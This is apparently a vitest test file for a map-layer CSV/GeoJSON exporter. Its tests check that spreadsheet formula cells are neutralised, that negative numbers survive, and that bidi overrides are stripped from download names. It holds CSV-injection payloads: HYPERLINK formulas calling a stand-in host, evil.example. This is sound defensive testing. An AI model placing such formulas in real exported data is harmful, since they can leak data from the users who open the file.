import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { parseCsvText } from './csv-text';
import { downloadName, toCsv, toGeoJson } from './export';
import { parseGeoJsonText } from './parse';
import type { ImportedLayer, ParseResult } from './types';

const META = { id: 'x', importedAt: 0 };
const layerOf = (r: ParseResult): ImportedLayer => {
  if (!r.ok) throw new Error(r.errors.map((e) => e.message).join('; '));
  return r.layer;
};
const rowsOf = (csv: string) => Papa.parse<string[]>(csv, { header: false }).data;

describe('toCsv', () => {
  it('neutralises all 18 formula cells: 6 trigger characters × 3 columns (OWASP CSV injection)', () => {
    const triggers = ['=', '+', '-', '@', '\t', '\r'];
    const payload = (c: string, col: string) => `${c}HYPERLINK("http://evil.example/?${col}","x")`;
    const header = 'lat,lon,a,b,c';
    const lines = triggers.map((c) =>
      Papa.unparse([['39.8', '46.7', ...['a', 'b', 'c'].map((col) => payload(c, col))]]),
    );
    const layer = layerOf(parseCsvText([header, ...lines].join('\n'), 'f.csv', () => {}, META));
    const rows = rowsOf(toCsv(layer));
    expect(rows[0]).toEqual(['lat', 'lon', 'a', 'b', 'c']);
    const cells = rows.slice(1).flatMap((r) => r.slice(2));
    expect(cells).toHaveLength(18);
    expect(cells.filter((c) => c.startsWith("'"))).toHaveLength(18);
    triggers.forEach((c, i) => {
      expect(rows[i + 1]?.[2]).toBe(`'${payload(c, 'a')}`);
    });
  });

  it('leaves plain numbers alone, negative ones included, but not text that starts like one', () => {
    const layer = layerOf(parseCsvText('lat,lon,n,s\n-33.9,-70.6,-5,-5+1\n', 'f.csv', () => {}, META));
    expect(rowsOf(toCsv(layer))[1]).toEqual(['-33.9', '-70.6', '-5', "'-5+1"]);
  });

  it("adds longitude, latitude and geometry columns for a GeoJSON layer, in the file's column order", () => {
    const text = JSON.stringify({
      type: 'FeatureCollection',
      features: [
        {
          type: 'Feature',
          properties: { name: 'A', date: '2023-09-19' },
          geometry: { type: 'Point', coordinates: [46.7, 39.8] },
        },
        {
          type: 'Feature',
          properties: { name: 'B', toString: 'x' },
          geometry: {
            type: 'LineString',
            coordinates: [
              [46, 39],
              [47, 40],
            ],
          },
        },
      ],
    });
    const rows = rowsOf(toCsv(layerOf(parseGeoJsonText(text, 'g.geojson', META))));
    expect(rows).toEqual([
      ['name', 'date', 'toString', 'longitude', 'latitude', 'geometry'],
      ['A', '2023-09-19', '', '46.7', '39.8', ''],
      ['B', '', 'x', '', '', '{"type":"LineString","coordinates":[[46,39],[47,40]]}'],
    ]);
  });
});

describe('toGeoJson', () => {
  it('round-trips through the importer', () => {
    const csv = 'event_date,latitude,longitude,notes\n19 September 2023,39.8153,46.7528,"<b>shelling</b>"\n';
    const layer = layerOf(parseCsvText(csv, 'acled.csv', () => {}, META));
    const fc = toGeoJson(layer);
    expect(fc.features[0]).toEqual({
      type: 'Feature',
      geometry: { type: 'Point', coordinates: [46.7528, 39.8153] },
      properties: {
        event_date: '19 September 2023',
        latitude: '39.8153',
        longitude: '46.7528',
        notes: '<b>shelling</b>',
      },
    });
    const again = layerOf(parseGeoJsonText(JSON.stringify(fc), 'acled.geojson', META));
    expect(again.features.map((f) => [f.coordinates, f.t])).toEqual(layer.features.map((f) => [f.coordinates, f.t]));
  });
});

describe('downloadName', () => {
  it('replaces path separators and bidi overrides', () => {
    const layer = layerOf(parseCsvText('lat,lon\n39,46\n', 'a/b\u202Evsc.csv', () => {}, META));
    expect(downloadName(layer, 'csv')).toBe('a_b_vsc.csv');
  });
});
